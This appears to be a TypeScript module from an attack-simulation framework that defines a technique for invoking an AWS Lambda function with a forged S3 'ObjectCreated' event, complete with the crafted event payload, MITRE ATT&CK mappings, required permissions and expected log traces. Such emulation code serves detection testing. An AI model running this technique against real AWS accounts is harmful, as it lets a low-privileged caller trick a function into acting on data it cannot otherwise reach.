import { z } from 'zod';
import type { AttackTechnique } from '../../../technique.ts';

const inputs = z.object({
  functionName: z.string().min(1).max(170),
  bucket: z.string().min(3).max(63),
  key: z.string().min(1).max(1024),
});

/** The event says what the attacker cannot reach; the function can. */
export const technique: AttackTechnique<z.infer<typeof inputs>> = {
  id: 'execution.crafted-event-invoke',
  title: 'Invoke a function with an event that S3 never sent',
  purpose:
    'The function does with its own rights what the event asks of it, on an object its caller could not touch.',
  mitre: ['T1648', 'T1036'],
  sources: [
    {
      title: 'Serverless Execution, MITRE ATT&CK',
      url: 'https://attack.mitre.org/techniques/T1648/',
    },
    {
      title: 'Serverless function event-data injection, OWASP',
      url: 'https://owasp.org/www-project-serverless-top-10/',
    },
    {
      title: 'Invoke, AWS Lambda API Reference',
      url: 'https://docs.aws.amazon.com/lambda/latest/api/API_Invoke.html',
    },
  ],
  inputs,
  actsAs: 'insider',
  needsStage: { bucket: {}, function: true, queue: true },
  needs: ['lambda:InvokeFunction'],
  leaves: [{ service: 'lambda.amazonaws.com', name: 'Invoke', outcome: 'succeeds' }],
  repeatable: true,
  async detonate({ inputs: { functionName, bucket, key }, aws, say }) {
    say(`Tell ${functionName} of ${JSON.stringify(key)} in ${bucket}, as S3 would`);
    await aws.lambda().invoke({
      FunctionName: functionName,
      InvocationType: 'Event',
      Payload: Buffer.from(JSON.stringify(craftedEvent(bucket, key))),
    });
  },
  undo: {
    kind: 'redeploy',
    because: 'the function has done what the event asked of it; nothing takes that back',
  },
};

/** In the form S3 has for it. Source: Event message structure, Amazon S3 User Guide. */
const craftedEvent = (bucket: string, key: string) => ({
  Records: [
    {
      eventVersion: '2.6',
      eventSource: 'aws:s3',
      awsRegion: 'us-east-1',
      eventTime: '2026-05-12T04:40:00.000Z',
      eventName: 'ObjectCreated:Put',
      userIdentity: { principalId: 'AWS:AIDAEXAMPLECLERK0000' },
      requestParameters: { sourceIPAddress: '203.0.113.66' },
      responseElements: { 'x-amz-request-id': 'EXAMPLECRAFTED00', 'x-amz-id-2': 'crafted' },
      s3: {
        s3SchemaVersion: '1.0',
        configurationId: 'intake',
        bucket: { name: bucket, arn: `arn:aws:s3:::${bucket}` },
        object: {
          key: encodeURIComponent(key).replaceAll('%2F', '/'),
          size: 37,
          eTag: '00000000000000000000000000000000',
        },
      },
    },
  ],
});
